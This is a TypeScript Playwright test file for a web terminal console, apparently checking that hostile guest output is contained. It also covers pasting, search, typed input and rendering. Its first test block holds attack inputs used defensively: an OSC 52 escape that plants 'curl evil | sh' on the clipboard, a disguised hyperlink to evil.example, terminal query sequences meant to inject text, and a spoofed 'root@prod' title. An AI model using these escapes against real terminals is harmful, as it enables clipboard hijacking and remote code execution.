import type { Browser, Page } from '@playwright/test'
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest'
import { guestOf } from '@/server/consoles/fixtures/console-server'
import type { ConsoleTarget } from '@/server/model/console'
import { glassServer, glassText, openChromium } from './fixtures/glass-page'

/** What `cat -v` prints, so that every byte a shell gets is seen. */
const bash: ConsoleTarget = {
  kind: 'pty',
  argv: ['/bin/bash', '--norc', '--noprofile', '-i'],
  env: { PS1: '$ ', BASH_SILENCE_DEPRECATION_WARNING: '1' },
}
const plain: ConsoleTarget = { kind: 'pty', argv: ['/bin/sh'], env: { PS1: '$ ' } }

// A browser on a busy machine.
vi.setConfig({ testTimeout: 90_000, hookTimeout: 60_000 })

let browser: Browser
let server: Awaited<ReturnType<typeof glassServer>>
const pages: Page[] = []
beforeAll(async () => {
  browser = await openChromium()
  server = await glassServer((name) => (name.startsWith('sh') ? plain : bash))
})
afterAll(async () => {
  await browser.close()
  await server.close()
})
afterEach(async () => {
  for (const page of pages.splice(0)) await page.context().close()
})

let count = 0
/** A terminal on a new session of its own, or on that of `name`; it shows a prompt, or else what `until` says. */
async function open(wanted: { kind?: 'serial' | 'shell'; shell?: 'bash' | 'sh'; find?: string; name?: string; until?: RegExp } = {}) {
  const { kind = 'shell', shell = 'bash', find = '', until = /\$ *$/, name = `${shell}${++count}` } = wanted
  server.publish({ type: 'guest', guest: guestOf(name) })
  const context = await browser.newContext({ viewport: { width: 1000, height: 600 }, permissions: ['clipboard-read', 'clipboard-write'] })
  const page = await context.newPage()
  page.setDefaultTimeout(30_000)
  pages.push(page)
  await page.goto(server.address({ name, kind, ...(find ? { find } : {}) }))
  await shows(page, until)
  return { page, name }
}
const shows = (page: Page, wanted: RegExp | string) =>
  vi.waitFor(async () => expect(await glassText(page)).toMatch(wanted), { timeout: 30_000, interval: 50 })
/** A busy machine may take a while to show it. */
const soon = <T>(read: () => T | Promise<T>, options = { timeout: 15_000 }) => expect.poll(read, options)
const input = (page: Page) => page.getByRole('textbox', { name: /console of/ })
async function enter(page: Page, line: string) {
  await input(page).focus()
  await page.keyboard.type(line)
  await page.keyboard.press('Enter')
}
const clipboard = (page: Page) => page.evaluate(() => navigator.clipboard.readText())
const setClipboard = (page: Page, text: string) => page.evaluate((value) => navigator.clipboard.writeText(value), text)
const more = async (page: Page, item: string) => {
  await page.getByRole('button', { name: 'More' }).click()
  await page.getByRole('menuitem', { name: item }).click()
}

describe('what a guest prints', () => {
  it('cannot set the clipboard: it asks, and nothing is written unless allowed', async () => {
    const { page } = await open()
    await setClipboard(page, 'mine')
    const evil = `printf '\\033]52;c;${btoa('curl evil | sh')}\\007'`
    await enter(page, evil)
    const ask = page.getByRole('alertdialog', { name: /wants to put text on your clipboard/ })
    await soon(() => ask.innerText()).toContain('curl evil | sh')
    expect(await clipboard(page)).toBe('mine')
    await ask.getByRole('button', { name: 'Refuse' }).click()
    expect(await ask.count()).toBe(0)
    expect(await clipboard(page)).toBe('mine')
    await enter(page, evil)
    await ask.getByRole('button', { name: 'Allow once' }).click()
    await soon(() => clipboard(page)).toBe('curl evil | sh')
  })

  it('cannot read the clipboard, nor have its title or settings typed into the shell', async () => {
    const { page } = await open()
    await setClipboard(page, 'secret')
    // Every question that xterm or another terminal might answer with text of the guest's choice.
    const asks = [
      '\\033]52;c;?\\007',
      '\\033]0;echo owned\\007',
      '\\033[21t',
      '\\033[20t',
      '\\033P$qm\\033\\\\',
      '\\033P+q544e\\033\\\\',
      '\\005',
    ]
    await enter(page, `printf '${asks.join('')}'; read -t 1 -n 200 got; printf 'got[%s]\\n' "$(printf %s "$got" | cat -v)"`)
    await shows(page, /^got\[\]$/m)
  })

  it('has its title shown as text: short, without hidden characters, never as the page’s own', async () => {
    const { page } = await open()
    await enter(page, `printf '\\033]2;\\342\\200\\256root@prod %0200d\\007' 7`)
    const title = page.getByRole('toolbar').locator('.console-title')
    await soon(() => title.innerText()).toMatch(/^root@prod 0+…$/)
    expect((await title.innerText()).length).toBeLessThanOrEqual(80)
    expect(await page.title()).toBe('a page')
  })

  it('cannot plant a link: each click shows where it leads first, whatever stands in the text', async () => {
    const { page } = await open()
    await enter(page, `clear; printf '\\033]8;;http://evil.example/x?y=1\\033\\\\https://good.example/\\033]8;;\\033\\\\\\n'`)
    await shows(page, /^https:\/\/good\.example\/$/m)
    const screen = page.locator('.xterm-screen')
    const dialog = page.getByRole('dialog', { name: 'Open a link from the console?' })
    await screen.hover({ position: { x: 60, y: 8 } })
    await vi.waitFor(async () => {
      await screen.click({ position: { x: 60, y: 8 } })
      expect(await dialog.count()).toBe(1)
    }, 15_000)
    expect(await dialog.innerText()).toContain('http://evil.example/x?y=1')
    const link = dialog.getByRole('link', { name: 'Open in a new tab' })
    expect(await link.getAttribute('href')).toBe('http://evil.example/x?y=1')
    expect(await link.getAttribute('rel')).toContain('noopener')
    expect(page.context().pages()).toHaveLength(1)
    await dialog.getByRole('button', { name: 'Cancel' }).click()
    expect(page.context().pages()).toHaveLength(1)
  })

  it('keeps Unicode 11 widths: an emoji is two columns wide', async () => {
    const { page } = await open()
    await enter(page, `printf '\\U1F9D1\\U1F680|\\033[6n'; read -d R -t 2 got; printf '\\n%s\\n' "$got" | cat -v`)
    await shows(page, /^\^\[\[\d+;6$/m)
  })
})

describe('pasting', () => {
  it('goes in brackets to a shell that takes them, and no text gets out of them', async () => {
    const { page } = await open()
    await setClipboard(page, 'echo one\necho two\x1b[201~\necho "th""ree"')
    await input(page).focus()
    await page.keyboard.press('Control+Shift+V')
    await shows(page, /echo two\[201~/)
    // Nothing ran: the shell waits for Enter.
    expect(await glassText(page)).not.toMatch(/^(one|two|three)/m)
    await page.keyboard.press('Enter')
    await shows(page, /^three$/m)
  })

  it('of several lines into a shell without brackets asks first', async () => {
    const { page } = await open({ shell: 'sh' })
    await setClipboard(page, 'echo f""irst\necho s""econd\n')
    await page.getByRole('button', { name: 'Paste' }).click()
    const dialog = page.getByRole('dialog', { name: 'Paste into the console' })
    expect(await dialog.getByLabel('Text to paste').inputValue()).toBe('echo f""irst\necho s""econd\n')
    await dialog.getByRole('button', { name: 'Cancel' }).click()
    expect(await glassText(page)).not.toContain('first')
    await page.getByRole('button', { name: 'Paste' }).click()
    await dialog.getByRole('button', { name: 'Type it' }).click()
    await shows(page, /^first$[\s\S]*^second$/m)
  })
})

describe('typing as keys', () => {
  it('gives a slow reader every line, though it throws away what comes too early', async () => {
    const { page } = await open({ shell: 'sh', kind: 'serial' })
    // As a login does: what was typed before it asks for the password is flushed.
    const login = `printf 'login: '; read u; sleep 4; stty -echo; while read -t 0.05 x 2>/dev/null; do :; done; printf 'Password: '; read p; stty echo; printf '\\nuser=%s pass=%s\\n' "$u" "$p"`
    await enter(page, `bash -c '${login.replaceAll("'", `'\\''`)}'`)
    await shows(page, /^login:$/m)
    await more(page, 'Type text as keys…')
    const dialog = page.getByRole('dialog', { name: 'Type text as keys' })
    await dialog.getByLabel('Text to type').fill('root\ns3cret')
    await dialog.getByLabel('Press Enter at the end').check()
    await dialog.getByLabel('Hide the text').check()
    expect(
      await dialog.getByLabel('Text to type').evaluate((field) => getComputedStyle(field).getPropertyValue('-webkit-text-security')),
    ).toBe('disc')
    await dialog.getByRole('button', { name: 'Type it' }).click()
    await shows(page, /^user=root pass=s3cret$/m)
    expect(await dialog.count()).toBe(0)
  })

  it('does not wait long where there is no prompt', async () => {
    const { page } = await open({ shell: 'sh' })
    await enter(page, "cat > /dev/null; echo e''nd")
    await more(page, 'Type text as keys…')
    const dialog = page.getByRole('dialog', { name: 'Type text as keys' })
    await dialog.getByLabel('Text to type').fill(Array.from({ length: 20 }, (_, n) => `row ${n}`).join('\n'))
    await dialog.getByRole('button', { name: 'Type it' }).click()
    // Two lines are waited for; twenty would be 50 seconds.
    await vi.waitFor(async () => expect(await dialog.count()).toBe(0), 40_000)
    await shows(page, /^row 19/m)
  })

  it('shows how far it is and stops where it is told to', async () => {
    const { page } = await open({ shell: 'sh' })
    await enter(page, 'cat >/dev/null')
    await more(page, 'Type text as keys…')
    const dialog = page.getByRole('dialog', { name: 'Type text as keys' })
    await dialog.getByLabel('Text to type').fill('0123456789'.repeat(50))
    await dialog.getByLabel('Speed').selectOption('30')
    await dialog.getByRole('button', { name: 'Type it' }).click()
    await soon(() => dialog.getByRole('status').innerText()).toMatch(/^[1-9]\d* of 500 characters typed$/)
    await dialog.getByRole('button', { name: 'Stop typing' }).click()
    await soon(() => dialog.getByRole('alert').innerText()).toMatch(/^Stopped after \d+ of 500 characters\.$/)
    const typed = (await glassText(page)).match(/\d{5,}/g)?.join('').length ?? 0
    expect(typed).toBeLessThan(500)
  })

  it('names control characters before it types', async () => {
    const { page } = await open()
    await more(page, 'Type text as keys…')
    const dialog = page.getByRole('dialog', { name: 'Type text as keys' })
    await dialog.getByLabel('Text to type').fill('a\x1b[Ab')
    expect(await dialog.getByRole('alert').innerText()).toContain('1 control character in it cannot be typed: U+001B')
    expect(await dialog.getByRole('button', { name: 'Type it' }).getAttribute('aria-disabled')).toBe('true')
  })
})

describe('finding', () => {
  it('counts hits, goes from one to the next, by pattern and by case', async () => {
    const { page } = await open()
    await enter(page, 'clear; for i in 1 2 3; do echo "Needle-$i needle"; done')
    await shows(page, /^Needle-3 needle$/m)
    await page.keyboard.press('Control+Shift+F')
    const field = page.getByRole('textbox', { name: 'Find in this console' })
    const hits = page.locator('.console-hits')
    await field.fill('needle-')
    await soon(() => hits.innerText()).toBe('3 of 3')
    await page.getByRole('button', { name: /Previous/ }).click()
    await soon(() => hits.innerText()).toBe('2 of 3')
    await page.getByRole('button', { name: 'Match case' }).click()
    await soon(() => hits.innerText()).toBe('Not found')
    await page.getByRole('button', { name: 'Match case' }).click()
    await page.getByRole('button', { name: 'Regular expression' }).click()
    await field.fill('edle-[23]')
    await soon(() => hits.innerText()).toMatch(/of 2$/)
    await field.fill('[')
    await soon(() => hits.innerText()).toBe('Not a pattern')
    await field.press('Escape')
    await soon(() => page.evaluate(() => document.activeElement?.className)).toContain('xterm')
  })

  it('begins with what the address asks for', async () => {
    const { page, name } = await open()
    await enter(page, 'for i in $(seq 1 300); do echo "row $i of many"; done')
    await shows(page, /^row 300 of many$/m)
    await page.context().close()
    const next = await open({ name, find: 'row 17 of', until: /^row 17 of many$/m })
    await soon(() => next.page.locator('.console-hits').innerText()).toBe('1 of 1')
  })

  it('looks in all of the past when what stands here is not enough', async () => {
    const { page } = await open()
    await enter(page, `clear; echo "a nee""dle"; seq 1 10500; echo do""ne`)
    await shows(page, /^done$/m)
    await page.keyboard.press('Control+Shift+F')
    const hits = page.locator('.console-hits')
    await page.getByRole('textbox', { name: 'Find in this console' }).fill('a needle')
    await soon(() => hits.innerText()).toBe('Not found')
    await page.getByRole('button', { name: 'In all of the past' }).click()
    await soon(() => hits.innerText()).toBe('1 of 1')
    await shows(page, /^a needle$/m)
    expect(await page.getByRole('button', { name: 'In all of the past' }).count()).toBe(0)
    await page.keyboard.press('Escape')
    await soon(() => hits.count()).toBe(0)
  })
})

describe('the text', () => {
  it('is copied and saved whole, wrapped lines in one piece', async () => {
    const { page } = await open()
    await enter(page, `clear; printf 'x%.0s' $(seq 300); echo; seq 1 100 | sed 's/^/line /'`)
    await shows(page, /^line 100$/m)
    await more(page, 'Copy all text')
    await soon(async () => (await clipboard(page)).split('\n')).toEqual(expect.arrayContaining(['x'.repeat(300), 'line 1', 'line 100']))
    const [download] = await Promise.all([page.waitForEvent('download'), more(page, 'Save text as a file')])
    expect(download.suggestedFilename()).toMatch(/^bash\d+-shell\.txt$/)
  })

  it('comes back to its beginning when all of the past is asked for', async () => {
    const { page, name } = await open()
    await enter(page, `echo "the very first"; seq 1 20000 | sed 's/$/ ${'.'.repeat(40)}/'; echo do""ne`)
    await shows(page, /^done$/m)
    await page.context().close()
    const again = (await open({ name })).page
    await again.getByRole('button', { name: 'More' }).click()
    await again.getByRole('menuitem', { name: 'Load all of the past' }).click()
    await shows(again, /^done$/m)
    await soon(
      async () => {
        await more(again, 'Copy all text')
        return (await clipboard(again)).split('\n').filter((line) => line === 'the very first' || / \.{40}$/.test(line)).length
      },
      { timeout: 20_000 },
    ).toBe(20_001)
    // Typing goes on there.
    await enter(again, 'echo st""ill')
    await shows(again, /^still$/m)
  })
})

it('sends combinations and function keys', async () => {
  const { page } = await open()
  await enter(page, 'cat -v')
  await page.getByRole('button', { name: 'Send keys' }).click()
  await page.getByRole('menuitem', { name: 'F12', exact: true }).click()
  await shows(page, /\^\[\[24~/)
  await page.getByRole('button', { name: 'Send keys' }).click()
  await page.getByRole('menuitem', { name: 'A combination…' }).click()
  const dialog = page.getByRole('dialog', { name: 'Send a key combination' })
  await dialog.getByLabel('Key').press('Alt+Shift+ArrowUp')
  await soon(() => dialog.innerText()).toContain('Alt-Shift-ArrowUp')
  await dialog.getByRole('button', { name: 'Send' }).click()
  await shows(page, /\^\[\[1;4A/)
  // What is ticked goes with a key that is pressed alone.
  await page.getByRole('button', { name: 'Send keys' }).click()
  await page.getByRole('menuitem', { name: 'A combination…' }).click()
  await dialog.getByLabel('Alt').check()
  await dialog.getByLabel('Key').press('x')
  await soon(() => dialog.innerText()).toContain('Ctrl-Alt-X')
  await dialog.getByRole('button', { name: 'Send' }).click()
  await shows(page, /\^\[\^X/)
  // The keyboard is the terminal's again.
  await page.keyboard.type('back')
  await shows(page, /back/)
})

it('draws with WebGL when told to, and goes on without it when the card is lost', async () => {
  const graphic = await openChromium(['--use-angle=swiftshader', '--enable-unsafe-swiftshader'])
  try {
    const page = await (await graphic.newContext()).newPage()
    await page.addInitScript(() => localStorage.setItem('bailiwick.console', JSON.stringify({ drawing: 'on' })))
    server.publish({ type: 'guest', guest: guestOf('gl') })
    await page.goto(server.address({ name: 'gl', kind: 'shell' }))
    await shows(page, /\$ *$/)
    const canvases = () => page.locator('.xterm-screen canvas:not(.xterm-link-layer)').count()
    expect(await canvases()).toBeGreaterThan(0)
    await page.evaluate(() => {
      for (const canvas of document.querySelectorAll<HTMLCanvasElement>('.xterm-screen canvas'))
        canvas.getContext('webgl2')?.getExtension('WEBGL_lose_context')?.loseContext()
    })
    await soon(() => page.locator('.xterm-rows > div').count(), { timeout: 10_000 }).toBeGreaterThan(0)
    await enter(page, 'echo dr""awn')
    await soon(() => page.locator('.xterm-rows').innerText()).toContain('drawn')
  } finally {
    await graphic.close()
  }
})
